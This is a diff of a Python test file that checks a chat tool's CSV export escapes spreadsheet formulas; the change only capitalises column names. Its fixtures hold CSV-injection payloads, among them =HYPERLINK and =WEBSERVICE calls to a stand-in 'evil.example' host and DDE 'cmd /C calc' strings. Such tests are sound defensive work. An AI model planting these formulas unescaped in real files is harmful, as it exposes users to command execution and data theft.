@@ -27,19 +27,19 @@ SAID = [
 
 #: (item, CSV column, the cell as exported)
 EXPORTED = [
-    ("B-1", "title", '\'=HYPERLINK("http://evil.example","click")'),
-    ("R-1", "title", "'+cmd|' /C calc'!A0"),
-    ("B-2", "title", "'@SUM(1+1)*cmd|' /C calc'!A0"),
-    ("D-1", "owner", "'-2+3"),
-    ("D-1", "reporter", "'-2+3"),
-    ("D-1", "decided_by", "'-2+3"),
-    ("B-3", "reporter", "'=1+1"),
-    ("B-4", "reporter", "'\t=1+1"),
-    ("B-5", "reporter", "'\r=1+1"),
-    ("B-6", "reporter", "'  =1+1"),
-    ("B-7", "resolution", '\'=WEBSERVICE("http://evil.example")'),
-    ("B-7", "title", "Plain title"),
-    ("D-1", "title", "Okta, best SCIM support"),
+    ("B-1", "Title", '\'=HYPERLINK("http://evil.example","click")'),
+    ("R-1", "Title", "'+cmd|' /C calc'!A0"),
+    ("B-2", "Title", "'@SUM(1+1)*cmd|' /C calc'!A0"),
+    ("D-1", "Owner", "'-2+3"),
+    ("D-1", "Reported by", "'-2+3"),
+    ("D-1", "Decided by", "'-2+3"),
+    ("B-3", "Reported by", "'=1+1"),
+    ("B-4", "Reported by", "'\t=1+1"),
+    ("B-5", "Reported by", "'\r=1+1"),
+    ("B-6", "Reported by", "'  =1+1"),
+    ("B-7", "Resolution", '\'=WEBSERVICE("http://evil.example")'),
+    ("B-7", "Title", "Plain title"),
+    ("D-1", "Title", "Okta, best SCIM support"),
 ]
 
 
@@ -52,7 +52,7 @@ async def _export(chat: Chat) -> list[dict[str, str]]:
 
 @pytest.mark.parametrize(("ref", "column", "cell"), EXPORTED)
 async def test_a_formula_is_exported_as_text(chat: Chat, ref: str, column: str, cell: str) -> None:
-    rows = {row["ref"]: row for row in await _export(chat)}
+    rows = {row["Ref"]: row for row in await _export(chat)}
     assert rows[ref][column] == cell
 
 
@@ -61,8 +61,8 @@ async def test_no_cell_of_the_export_starts_a_formula(chat: Chat) -> None:
     assert len(rows) == 9
     for row in rows:
         for column, cell in row.items():
-            assert not cell.lstrip(" ").startswith(FORMULA_STARTS), (row["ref"], column, cell)
-    history = {row["ref"]: row["history"] for row in rows}
+            assert not cell.lstrip(" ").startswith(FORMULA_STARTS), (row["Ref"], column, cell)
+    history = {row["Ref"]: row["History"] for row in rows}
     # The history keeps what was said, after the time it was said.
     assert "note: “-1+1 vendor confirmed”" in history["B-1"]
     assert 'resolution: =WEBSERVICE("http://evil.example")' in history["B-7"]
